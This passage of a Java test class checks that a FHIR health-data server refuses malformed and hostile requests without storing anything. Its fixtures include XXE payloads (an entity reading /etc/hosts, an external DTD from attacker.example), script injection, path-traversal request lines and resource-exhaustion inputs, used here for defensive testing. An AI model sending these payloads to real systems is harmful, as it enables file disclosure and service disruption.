package org.pvpoutcomes.fhir;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import jakarta.enterprise.inject.spi.CDI;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is wrong with a request: an OperationOutcome with a 4xx, and nothing stored. */
@QuarkusTest
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class BadInputTest {

  private static final String FHIR_JSON = "application/fhir+json";
  private static final String PATIENT = "{\"resourceType\":\"Patient\"}";
  private static final int FIFTY_MB = 50_000_000;

  private long versionsBefore;

  @BeforeEach
  void count() throws SQLException {
    versionsBefore = versions();
  }

  @AfterEach
  void nothing_was_stored() throws SQLException {
    assertThat(versions()).isEqualTo(versionsBefore);
  }

  static List<String> invalid() {
    return Fixtures.names("/fhir/invalid");
  }

  @ParameterizedTest
  @MethodSource("invalid")
  void a_resource_that_is_not_well_formed_is_refused_with_every_fault(String name) {
    byte[] body = Fixtures.bytes("/fhir/invalid/" + name + ".json");
    List<String> faults = Fixtures.lines("/fhir/invalid/" + name + ".expected.txt");
    String type = new JsonReader(200).read(body).path("resourceType").asText("Patient");
    Response response =
        given().contentType(FHIR_JSON).body(body).post("/fhir/" + type).then().extract().response();
    String code =
        faults.getFirst().startsWith("not-supported") || type.equals("Sensor") ? "404" : "400";
    assertOutcome(response, Integer.parseInt(code));
    if (code.equals("400")) {
      assertThat(response.jsonPath().getList("issue.code", String.class))
          .containsExactlyElementsOf(
              faults.stream().map(fault -> fault.substring(0, fault.indexOf(' '))).toList());
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "''~ structure",
        "[]~ structure",
        "{~ structure",
        "{\"resourceType\":\"Patient\"~ structure",
        "{\"resourceType\":\"Patient\"}}~ structure",
        "{\"resourceType\":\"Patient\",\"active\":true,\"active\":true}~ structure",
        "{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"x\"}}~ structure",
        "<Patient xmlns=\"http://hl7.org/fhir\"/>~ structure",
      })
  void a_body_that_is_no_Patient_is_refused(String body, String code) {
    Response response =
        given().contentType(FHIR_JSON).body(body.replace("''", "")).post("/fhir/Patient");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
  }

  @ParameterizedTest
  @CsvSource({"urn:synthetic, 10000, x", "urn:synthetic, 2036, x", "urn:synthetic, 679, \u20ac"})
  void an_identifier_too_long_to_be_found_again_is_refused(
      String system, int length, String letter) {
    Response response =
        given()
            .contentType(FHIR_JSON)
            .body(identified(system, letter.repeat(length)).getBytes(StandardCharsets.UTF_8))
            .post("/fhir/Patient");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getList("issue[0].expression"))
        .isEqualTo(List.of("Patient.identifier[0]"));
  }

  private static String identified(String system, String value) {
    return "{\"resourceType\":\"Patient\",\"identifier\":[{\"system\":\"%s\",\"value\":\"%s\"}]}"
        .formatted(system, value);
  }

  @Test
  void bytes_that_are_not_UTF_8_are_refused() {
    byte[] body =
        "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"\u00e9\"}]}"
            .getBytes(StandardCharsets.ISO_8859_1);
    assertOutcome(given().contentType(FHIR_JSON).body(body).post("/fhir/Patient"), 400);
    assertOutcome(given().contentType(FHIR_JSON).body(body).post("/fhir"), 400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/fhir/Patient", "/fhir"})
  void ten_thousand_levels_of_nesting_are_refused(String path) throws Exception {
    String deep = "{\"extension\":[".repeat(5_000) + "]}".repeat(5_000);
    for (String body :
        List.of(
            "{\"resourceType\":\"Patient\",\"extension\":[" + deep + "]}", "[".repeat(10_000))) {
      HttpResponse<String> response = send(path, BodyPublishers.ofString(body));
      assertThat(response.statusCode()).isEqualTo(400);
      assertThat(response.headers().firstValue("Content-Type"))
          .hasValue("application/fhir+json;charset=UTF-8");
      assertThat(response.body()).contains("nested deeper than 200 levels");
    }
  }

  @ParameterizedTest
  @CsvSource({
    "DELETE, /fhir/Patient/1, 400",
    "DELETE, /fhir/Patient?identifier=a%7Cb, 400",
    "DELETE, /fhir/Patient, 400",
    "DELETE, /fhir/Medication/1, 404",
    "DELETE, /fhir/Patient/1/_history/1, 405",
    "DELETE, /fhir/metadata, 405",
    "DELETE, /fhir, 405",
    "DELETE, /fhir/Patient?_format=json, 400",
    "DELETE, /fhir/StructureDefinition/1, 405",
    "GET, /fhir, 405",
    "GET, /fhir/Patient/_search, 405",
    "GET, /fhir/Patient/$everything, 404",
    "GET, /fhir/Patient/1/$everything/2, 404",
    "GET, /fhir/Observation/1/$everything, 404",
    "GET, /fhir/Patient/1/_history/1/2, 404",
    "GET, /fhir/Patient/unknown/_history, 404",
    "GET, /fhir/StructureDefinition/unknown/_history, 404",
    "PATCH, /fhir/Patient/1, 400",
    "PATCH, /fhir/Patient, 400",
    "PATCH, /fhir/Patient/1/_history/1, 405",
    "PATCH, /fhir/Medication/1, 404",
    "POST, /fhir/metadata, 405",
    "POST, /fhir/_history, 405",
    "POST, /fhir/_search, 404",
    "POST, /fhir/ValueSet, 405",
    "POST, /fhir/Patient?name=x, 400",
    "POST, /fhir/Patient/_search, 415",
    "POST, /fhir/Patient/1, 405",
    "GET, /fhir/Patient/unknown, 404",
    "GET, /fhir/Patient/not_an_id, 404",
    "GET, /fhir/Patient/unknown/_history/1, 404",
    "GET, /fhir/Patient/unknown/_history/first, 404",
    "GET, /fhir/Patient/unknown/_history/99999999999, 404",
    "GET, /fhir/Medication/1, 404",
    "GET, /fhir/Patient/1/2/3/4, 404",
    "POST, /fhir/Medication, 404",
    "PUT, /fhir/Medication/1, 404",
    "PUT, /fhir/Patient/not_an_id, 400",
    "PUT, /fhir/Patient, 400",
    "PUT, /fhir/Patient?name=x, 400",
    "PUT, /fhir/Patient?_format=json, 400",
    "PUT, /fhir/Patient/1?name=x, 400",
    "PUT, /fhir/Patient?identifier=x, 400",
    "PUT, /fhir/Patient?identifier=a%7C, 400",
    "PUT, /fhir/Patient?identifier=a%7Cb&active=true, 400",
    "PUT, /fhir/Patient?identifier=a%7C%FF, 400",
    "PUT, /fhir/Patient/1, 400",
  })
  void a_request_that_is_not_one_of_ours_is_refused(String method, String path, int status) {
    assertOutcome(
        given()
            .urlEncodingEnabled(false)
            .contentType(FHIR_JSON)
            .body(PATIENT)
            .request(method, path),
        status);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "Patient?birthdate=yesterday~ invalid",
        "Patient?birthdate=2021-02-30~ invalid",
        "Patient?birthdate=ge~ invalid",
        "Patient?birthdate=~ invalid",
        "Patient?birthdate:contains=2021~ not-supported",
        "Patient?identifier=%7C~ invalid",
        "Patient?identifier=%FF~ invalid",
        "Patient?_lastUpdated=now~ invalid",
        "Patient?_count=-1~ invalid",
        "Patient?_count=99999999999~ invalid",
        "Patient?_total=exact~ invalid",
        "Patient?_summary=some~ invalid",
        "Patient?_elements=name[0]~ invalid",
        "Patient?_pretty=1~ invalid",
        "Patient?_page=x~ invalid",
        "Patient?_sort=_lastUpdated&_page=WyJzdG9yZWQiLCIyMDIxLTAyLTMxIDAwOjAwOjAwKzAwIiwieCJd~ invalid",
        "Patient?_sort=_lastUpdated&_page=WyJzdG9yZWQiLCIyMDIxLTAyLTI4IDAwOjAwOjAwKzE2IiwieCJd~ invalid",
        "Patient?_sort=_lastUpdated&_page=WyJzdG9yZWQiLCIyMDIxLTAyLTI4IDI0OjMwOjAwKzAwIiwieCJd~ invalid",
        "Observation?value-quantity=ge~ invalid",
        "Observation?value-quantity=%D9%A7~ invalid",
        "Patient?_count=%D9%A7~ invalid",
        "Patient?name=%00~ invalid",
        "Observation?value-quantity=1e999999999~ invalid",
        "Observation?subject:Device.birthdate=2021~ not-supported",
        "Patient/_history?_since=2021-02-30~ invalid",
        "Patient/_history?_since=2021-03-01~ invalid",
        "Patient/_history?_count=1.5~ invalid",
        "Patient/_history?name=x~ not-supported",
        "_history?_at=2021~ not-supported",
      })
  void a_search_or_history_whose_parameters_cannot_be_carried_out_is_refused(
      String url, String code) {
    Response response = given().urlEncodingEnabled(false).get("/fhir/" + url);
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Patient?shoe-size=42",
        "Patient?_content=x",
        "Patient?_sort=family",
        "Patient?_include=Patient:nobody",
        "Patient?_revinclude=Encounter:nobody",
      })
  void a_parameter_that_is_not_known_is_refused_if_the_client_is_strict(String url) {
    Response response = given().header("Prefer", "handling=strict").get("/fhir/" + url);
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of("not-supported"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "Patient?shoe-size=42~ shoe-size. Not a search parameter of Patient on this server; there are _id, ",
        "Patient?shoe-size:exact=42~ shoe-size:exact. Not a search parameter",
        "Patient?_sort=family~ _sort. It is possible to sort by _id",
        "Patient?_include=Patient:nobody~ _include. Write Patient:parameter or",
        "Patient?Mrs%20Secret=42~ Not a search parameter of Patient",
      })
  void a_parameter_that_is_not_known_is_named_unless_it_is_no_name(String url, String text) {
    String remark = "A parameter was not used: " + text;
    Response strict =
        given().urlEncodingEnabled(false).header("Prefer", "handling=strict").get("/fhir/" + url);
    assertOutcome(strict, 400);
    assertThat(strict.jsonPath().getString("issue[0].details.text")).startsWith(remark);
    assertThat(
            given()
                .urlEncodingEnabled(false)
                .get("/fhir/" + url)
                .jsonPath()
                .getString("entry[-1].resource.issue[0].details.text"))
        .startsWith(remark);
  }

  @Test
  void a_part_of_a_resource_is_no_update() {
    JsonNode resource =
        new JsonReader(200)
            .read(
                "{\"resourceType\":\"Patient\",\"id\":\"1\",\"meta\":{\"tag\":[{\"code\":\"x\"}]}}"
                    .getBytes(StandardCharsets.UTF_8));
    JsonNode part =
        new Subset(new ResourceChecker()).elements((ObjectNode) resource, Set.of("gender"));
    Response response = given().contentType(FHIR_JSON).body(part.toString()).put("/fhir/Patient/1");
    assertOutcome(response, 422);
    assertThat(response.jsonPath().getList("issue[0].expression"))
        .isEqualTo(List.of("Patient.meta.tag[1]"));
  }

  @Test
  void a_Content_Type_that_is_none_is_answered_with_those_there_are() throws Exception {
    try (HttpClient client = HttpClient.newHttpClient()) {
      HttpResponse<String> response =
          client.send(
              HttpRequest.newBuilder(
                      URI.create("http://localhost:" + RestAssured.port + "/fhir/Patient"))
                  .header("Content-Type", "foo")
                  .POST(BodyPublishers.ofString(PATIENT))
                  .build(),
              BodyHandlers.ofString());
      assertThat(response.statusCode()).isEqualTo(415);
      assertThat(response.body())
          .contains("OperationOutcome")
          .contains("Bodies must be application/fhir+json or application/fhir+xml");
    }
  }

  @Test
  void other_formats_are_refused() {
    assertOutcome(given().contentType("text/turtle").body("<x> a <y> .").post("/fhir"), 415);
    assertOutcome(given().contentType("text/plain").body(PATIENT).post("/fhir/Patient"), 415);
    assertOutcome(
        given()
            .body(PATIENT.getBytes(StandardCharsets.UTF_8))
            .contentType("image/png")
            .put("/fhir/Patient/1"),
        415);
    assertOutcome(
        given()
            .body(PATIENT.getBytes(StandardCharsets.UTF_8))
            .contentType("application/fhir+json; fhirVersion=3.0")
            .post("/fhir/Patient"),
        415);
    assertOutcome(given().accept("text/turtle").get("/fhir/metadata"), 406);
    assertOutcome(given().get("/fhir/metadata?_format=ttl"), 406);
    assertOutcome(
        given().accept("text/csv").contentType(FHIR_JSON).body(PATIENT).post("/fhir/Patient"), 406);
    assertOutcome(
        given().contentType(FHIR_JSON).body(PATIENT).post("/fhir/Patient?_format=text/csv"), 406);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "<x/>",
        "{\"resourceType\":\"Patient\"}",
        "<Patient/>",
        "<Patient xmlns=\"http://hl7.org/fhir\">",
        "<Patient xmlns=\"http://hl7.org/fhir\"/><Patient xmlns=\"http://hl7.org/fhir\"/>",
        "<!DOCTYPE Patient [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><Patient xmlns=\"http://hl7.org/fhir\"><language value=\"&e;\"/></Patient>",
        "<!DOCTYPE Patient SYSTEM \"http://attacker.example/x.dtd\"><Patient xmlns=\"http://hl7.org/fhir\"/>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><name value=\"&e;\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><nickname value=\"x\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"true\" sure=\"no\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"true\"/><active value=\"true\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><active/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"yes\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\">text</Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/><div xmlns=\"http://www.w3.org/1999/xhtml\"><script>x</script></div></text></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/><div xmlns=\"http://www.w3.org/1999/xhtml\"><p xmlns=\"http://evil.example\">x</p></div></text></Patient>",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><Patient xmlns=\"http://hl7.org/fhir\"/>",
      })
  void XML_that_is_no_Patient_is_refused(String body) {
    Response response =
        given()
            .contentType("application/fhir+xml")
            .body(body.getBytes(StandardCharsets.UTF_8))
            .post("/fhir/Patient");
    assertOutcome(response, 400);
    assertThat(response.asString()).doesNotContain("Exception").doesNotContain("localhost");
  }

  @Test
  @Timeout(20)
  void hundred_thousand_namespaces_are_refused_before_a_parser_walks_through_them() {
    String namespaces =
        IntStream.range(0, 100_000)
            .mapToObj(i -> " xmlns:n" + i + "=\"http://x.example\"")
            .collect(Collectors.joining());
    String patient = "<Patient xmlns=\"http://hl7.org/fhir\"" + namespaces + "/>";
    String div = "<div xmlns=\"http://www.w3.org/1999/xhtml\"" + namespaces + ">x</div>";
    String narrative =
        "{\"resourceType\":\"Patient\",\"text\":{\"status\":\"generated\",\"div\":\""
            + div.replace("\"", "\\\"")
            + "\"}}";
    Response xml = given().contentType("application/fhir+xml").body(patient).post("/fhir/Patient");
    assertOutcome(xml, 400);
    assertThat(xml.asString()).contains("too many namespace prefixes");
    assertOutcome(given().contentType(FHIR_JSON).body(narrative).post("/fhir/Patient"), 400);
  }

  @Test
  void XML_that_is_nested_too_deep_is_refused() {
    String open = "<extension url=\"http://x.example\">";
    String body =
        "<Patient xmlns=\"http://hl7.org/fhir\">"
            + open.repeat(5_000)
            + "</extension>".repeat(5_000)
            + "</Patient>";
    Response response =
        given().contentType("application/fhir+xml").body(body).post("/fhir/Patient");
    assertOutcome(response, 400);
    assertThat(response.asString()).contains("nested deeper than 200 levels");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "PATCH~ application/json-patch+json~ ''~ 400",
        "PATCH~ application/json-patch+json~ []~ 404",
        "PATCH~ application/json-patch+json~ {}~ 400",
        "PATCH~ application/json-patch+json~ [{\"op\":\"add\"}]~ 400",
        "PATCH~ application/json-patch+json~ [{\"op\":\"twist\",\"path\":\"/active\",\"value\":true}]~ 400",
        "PATCH~ application/json-patch+json~ [{\"op\":\"add\",\"path\":\"active\",\"value\":true}]~ 400",
        "PATCH~ application/json-patch+json~ [{\"op\":\"add\",\"path\":\"/active\",\"value\":true}]~ 404",
        "PATCH~ application/fhir+json~ ''~ 400",
        "PATCH~ application/fhir+json~ [{\"op\":\"add\",\"path\":\"/active\",\"value\":true}]~ 400",
        "PATCH~ application/fhir+json~ {\"resourceType\":\"Patient\",\"active\":true}~ 400",
        "PATCH~ application/fhir+json~ {\"resourceType\":\"Parameters\"}~ 404",
        "PATCH~ application/fhir+json~ {\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"operation\"}]}~ 400",
        "PATCH~ application/merge-patch+json~ {\"active\":true}~ 415",
        "PUT~ application/json-patch+json~ [{\"op\":\"add\",\"path\":\"/active\",\"value\":true}]~ 415",
      })
  void a_patch_that_cannot_be_read_or_has_nothing_to_change_is_refused(
      String method, String contentType, String body, int status) {
    assertOutcome(
        given()
            .contentType(contentType)
            .body(body.replace("''", "").getBytes(StandardCharsets.UTF_8))
            .request(method, "/fhir/Patient/unknown"),
        status);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/fhir/Patient", "/fhir", "/fhir/Patient/$validate"})
  void a_JSON_Patch_is_no_body_of_a_POST(String url) {
    assertOutcome(
        given()
            .urlEncodingEnabled(false)
            .contentType("application/json-patch+json")
            .body("[]".getBytes(StandardCharsets.UTF_8))
            .post(url),
        415);
  }

  @Test
  void a_refused_method_is_answered_with_those_that_are_allowed() {
    assertThat(given().post("/fhir/Patient/1").header("Allow"))
        .isEqualTo("DELETE, PUT, PATCH, GET, HEAD");
    assertThat(given().put("/fhir/Patient/_history").header("Allow")).isEqualTo("GET, HEAD");
    assertThat(given().get("/fhir/Patient/_search").header("Allow")).isEqualTo("POST");
    assertThat(given().delete("/fhir/ValueSet").header("Allow")).isEqualTo("GET, HEAD");
    assertThat(given().get("/fhir").header("Allow")).isEqualTo("POST");
    assertThat(given().head("/fhir").header("Allow")).isEqualTo("POST");
    assertThat(given().patch("/fhir/metadata").header("Allow")).isEqualTo("GET, HEAD");
  }

  @ParameterizedTest
  @CsvSource({"/fhir, 405", "/fhir/Patient/unknown, 404", "/fhir/Medication/1, 404"})
  void a_refused_HEAD_has_the_status_and_no_body(String url, int status) {
    Response response = given().head(url);
    assertThat(response.statusCode()).isEqualTo(status);
    assertThat(response.asByteArray()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "PUT /fhir/Patient?identifier=%zz|b HTTP/1.1",
        "PUT /fhir/Patient?identifier=<script>|b HTTP/1.1",
        "PUT /fhir/Patient?identifier=a|b|%00 HTTP/1.1",
        "PUT /fhir/Patient? HTTP/1.1",
        "DELETE /fhir/Patient? HTTP/1.1",
        "DELETE /fhir/Patient/%2e%2e HTTP/1.1",
        "GET /fhir/Patient/%zz HTTP/1.1",
        "GET /fhir/Patient/%00 HTTP/1.1",
        "GET /fhir/%2e%2e/%2e%2e/etc HTTP/1.1",
        "POST /fhir/%F0%9F%98%80 HTTP/1.1",
      })
  void request_lines_that_no_client_library_sends_are_refused(String line) throws IOException {
    String answer = raw(line);
    assertThat(answer).matches("(?s)HTTP/1\\.1 4\\d\\d .*");
    assertThat(answer).doesNotContain("script").doesNotContain("Exception");
  }

  @ParameterizedTest
  @ValueSource(strings = {"1e999999999", "1e99999999999999", "-1E-999999999", "1e309"})
  void decimals_that_would_exhaust_memory_are_refused(String number) {
    String body =
        "{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"x\"},"
            + "\"valueQuantity\":{\"value\":"
            + number
            + "}}";
    assertOutcome(given().contentType(FHIR_JSON).body(body).post("/fhir/Observation"), 400);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "shoe-size=42~ not-supported",
        "identifier=a%7Cb&shoe-size=42~ not-supported",
        "identifier=a%7Cb&_count=1~ not-supported",
        "identifier=a%7Cb&_sort=_id~ not-supported",
        "identifier=a%7Cb&_include=Patient:organization~ not-supported",
        "general-practitioner.name=x~ not-supported",
        "_has:Observation:subject:code=x~ not-supported",
        "birthdate=ap2021~ not-supported",
        "birthdate=yesterday~ invalid",
        "_lastUpdated=gt2021~ invalid",
        "identifier=~ invalid",
        "identifier=%7C~ invalid",
        "identifier=a%7C~ invalid",
        "identifier=a%7Cb,a%7C~ invalid",
        "identifier=a%7C%FF~ invalid",
        "identifier=a%7Cb&identifier=~ invalid",
        "_format=json~ invalid",
        "name=x~ invalid",
        "identifier=a%7Cother~ invalid",
      })
  void a_condition_that_would_match_more_than_was_meant_is_refused(String condition, String code) {
    String patient = identified("a", "b");
    for (Response response :
        List.of(
            given()
                .contentType(FHIR_JSON)
                .header("If-None-Exist", condition)
                .body(patient)
                .post("/fhir/Patient"),
            given()
                .urlEncodingEnabled(false)
                .contentType(FHIR_JSON)
                .body(patient)
                .put("/fhir/Patient?" + condition))) {
      assertOutcome(response, 400);
      assertThat(response.jsonPath().getList("issue.code"))
          .as(response.asString())
          .isEqualTo(List.of(code));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "POST~ Patient~ If-None-Exist~ ''~ 400~ invalid",
        "POST~ Patient~ If-Match~ W/\"1\"~ 400~ invalid",
        "POST~ Patient~ If-None-Match~ *~ 400~ invalid",
        "PUT~ Patient/1~ If-None-Exist~ identifier=a%7Cb~ 400~ invalid",
        "PUT~ Patient/1~ If-Match~ first~ 400~ invalid",
        "PUT~ Patient/1~ If-Match~ W/\"1\", W/\"2~ 400~ invalid",
        "PUT~ Patient/1~ If-Match~ W/\"1\" W/\"2\"~ 400~ invalid",
        "PUT~ Patient/1~ If-Match~ W/\"1\", W/\"2\"~ 412~ conflict",
        "PUT~ Patient/1~ If-Match~ W/\"abc\"~ 412~ conflict",
        "PUT~ Patient/1~ If-Match~ W/\"99999999999\"~ 412~ conflict",
        "PUT~ Patient/1~ If-Match~ W/\"1\"~ 412~ conflict",
        "PUT~ Patient/1~ If-Match~ *~ 412~ conflict",
        "PUT~ Patient/1~ If-None-Match~ W/\"1\"~ 400~ invalid",
        "PUT~ Patient?identifier=a%7Cb~ If-Match~ W/\"1\"~ 412~ conflict",
      })
  void a_precondition_that_does_not_hold_or_cannot_be_read_is_refused(
      String method, String url, String header, String value, int status, String code) {
    Response response =
        given()
            .urlEncodingEnabled(false)
            .contentType(FHIR_JSON)
            .header(header, value.replace("''", ""))
            .body(
                identified("a", "b").replace("{\"resourceType\"", "{\"id\":\"1\",\"resourceType\""))
            .request(method, "/fhir/" + url);
    assertOutcome(response, status);
    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
  }

  @Test
  void conditions_that_contradict_each_other_are_refused() {
    assertOutcome(
        given()
            .contentType(FHIR_JSON)
            .header("If-None-Exist", "identifier=a%7Cb", "identifier=a%7Cc")
            .body(PATIENT)
            .post("/fhir/Patient"),
        400);
    assertOutcome(
        given()
            .contentType(FHIR_JSON)
            .header("If-Match", "W/\"1\"")
            .header("If-None-Match", "*")
            .body("{\"resourceType\":\"Patient\",\"id\":\"1\"}")
            .put("/fhir/Patient/1"),
        400);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "{\"resourceType\":\"Patient\"}~ Patient",
        "{\"resourceType\":\"Bundle\"}~ Bundle.type",
        "{\"resourceType\":\"Bundle\",\"type\":\"message\"}~ Bundle.type",
        "{\"resourceType\":\"Bundle\",\"type\":\"everything\"}~ Bundle.type",
        "{\"resourceType\":\"Bundle\",\"type\":\"batch\",\"entries\":[]}~ Bundle.entries",
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":{}}~ Bundle.entry",
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"resource\":{\"resourceType\":\"Patient\"}}]}~ Bundle.entry[0].request",
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}}]}~ Bundle.entry[0].resource",
      })
  void a_Bundle_that_cannot_be_read_is_refused(String body, String expression) {
    Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getString("issue[0].expression[0]")).isEqualTo(expression);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "DELETE~ Patient/1~ ''~ {}~ 400~ resource~ structure",
        "GET~ Patient/unknown~ ''~ ''~ 404~ request.url~ not-found",
        "GET~ Patient/unknown/_history~ ''~ ''~ 404~ request.url~ not-found",
        "GET~ Patient?birthdate=yesterday~ ''~ ''~ 400~ request.url~ invalid",
        "GET~ nothing~ ''~ ''~ 404~ request.url~ not-found",
        "HEAD~ Patient/unknown~ ''~ ''~ 404~ request.url~ not-found",
        "FETCH~ Patient/1~ ''~ {}~ 400~ request.method~ code-invalid",
        "POST~ Patient/1~ ''~ {}~ 400~ request.url~ not-supported",
        "POST~ Patient?name=x~ ''~ {}~ 400~ request.url~ not-supported",
        "POST~ Condition~ ''~ {}~ 400~ request.url~ structure",
        "POST~ ValueSet~ ''~ {}~ 400~ request.url~ not-supported",
        "POST~ Patient~ ''~ ''~ 400~ resource~ required",
        "PUT~ Patient~ ''~ {}~ 400~ request.url~ invalid",
        "PUT~ Patient?_format=json~ ''~ {}~ 400~ request.url~ invalid",
        "PUT~ Patient/1~ ''~ {}~ 400~ resource.id~ value",
        "PUT~ Patient?shoe-size=42~ ''~ {}~ 400~ request.url~ not-supported",
        "PUT~ Patient?name=x~ ''~ {}~ 400~ resource~ invalid",
        "POST~ Patient~ ,\"ifNoneExist\":\"identifier=x\"~ {}~ 400~ resource~ invalid",
        "POST~ Patient~ ,\"ifNoneExist\":\"identifier=a|\"~ {}~ 400~ request.ifNoneExist~ invalid",
        "POST~ Patient~ ,\"ifNoneExist\":\"shoe-size=42\"~ {}~ 400~ request.ifNoneExist~ not-supported",
        "POST~ Patient~ ,\"ifMatch\":\"W/\\\"1\\\"\"~ {}~ 400~ request.ifMatch~ invalid",
        "PUT~ Patient/1~ ,\"ifMatch\":\"first\"~ {\"id\":\"1\"}~ 400~ request.ifMatch~ invalid",
        "PUT~ Patient/1~ ,\"ifMatch\":\"W/\\\"1\\\"\"~ {\"id\":\"1\"}~ 412~ request.ifMatch~ conflict",
        "PUT~ Patient/1~ ,\"ifNoneMatch\":\"W/\\\"1\\\"\"~ {\"id\":\"1\"}~ 400~ request.ifNoneMatch~ invalid",
        "PUT~ Patient/1~ ,\"ifNoneExist\":\"identifier=a|b\"~ {\"id\":\"1\"}~ 400~ request.ifNoneExist~ invalid",
        "PATCH~ Patient/1~ ''~ ''~ 400~ resource~ required",
        "PATCH~ Patient/1~ ''~ {}~ 400~ resource~ structure",
        "PATCH~ Patient/1~ ,\"ifNoneMatch\":\"*\"~ {}~ 400~ request.ifNoneMatch~ invalid",
        "POST~ /~ ''~ {}~ 400~ request.url~ not-supported",
        "POST~ http://elsewhere.example/fhir/Patient~ ''~ {}~ 400~ request.url~ invalid",
        "POST~ urn:uuid:00000000-0000-4000-8000-000000000001~ ''~ {}~ 400~ request.url~ invalid",
      })
  void an_entry_that_cannot_be_carried_out_is_named_and_refuses_the_transaction(
      String method,
      String url,
      String more,
      String resource,
      int status,
      String place,
      String code) {
    String second =
        resource.startsWith("{")
            ? ",\"resource\":{\"resourceType\":\"Patient\"," + resource.substring(1)
            : "";
    String body =
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":["
            + "{\"resource\":{\"resourceType\":\"Patient\"},\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}},"
            + "{\"request\":{\"method\":\""
            + method
            + "\",\"url\":\""
            + url
            + "\""
            + more.replace("''", "")
            + "}"
            + second.replace(",}", "}")
            + "}]}";
    Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
    assertOutcome(response, status);
    assertThat(response.jsonPath().getString("issue[0].expression[0]"))
        .isEqualTo("Bundle.entry[1]." + place);
    assertThat(response.jsonPath().getString("issue[0].code")).isEqualTo(code);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "e30=~ value~ The data of the Binary are no JSON Patch.",
        "AAAA~ value~ The data of the Binary are no JSON Patch.",
        "''~ required~ The Binary has no data",
        "!!~ value~ The data of the Binary are not base64.",
      })
  void a_JSON_Patch_in_a_Bundle_that_cannot_be_read_is_named(
      String data, String code, String text) {
    String binary =
        "{\"resourceType\":\"Binary\",\"contentType\":\"application/json-patch+json\""
            + (data.equals("''") || data.isEmpty() ? "}" : ",\"data\":\"" + data + "\"}");
    Response response =
        transaction(
            "{\"request\":{\"method\":\"PATCH\",\"url\":\"Patient/1\"},\"resource\":"
                + binary
                + "}");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getString("issue[0].expression[0]"))
        .isEqualTo("Bundle.entry[0].resource.data");
    assertThat(response.jsonPath().getString("issue[0].code")).isEqualTo(code);
    assertThat(response.jsonPath().getString("issue[0].details.text")).startsWith(text);
  }

  @ParameterizedTest
  @CsvSource({
    "Patient?_page=x, 400",
